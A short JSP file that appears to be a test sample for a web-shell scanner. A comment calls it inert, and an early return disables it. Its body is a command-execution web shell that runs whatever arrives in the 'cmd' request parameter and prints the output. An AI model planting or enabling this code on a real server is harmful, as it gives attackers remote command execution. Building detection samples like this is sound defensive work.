<%@ page import="java.io.*" pageEncoding="utf-8" %>
<%-- shellsweep test sample: inert, never functional --%>
<% if (true) return; %>
<%
    String cmd = request.getParameter("cmd");
    Process process = Runtime.getRuntime().exec(cmd);
    BufferedReader br = new BufferedReader(new InputStreamReader(process.getInputStream()));
    String r; while ((r = br.readLine()) != null) { out.println(r); }
%>
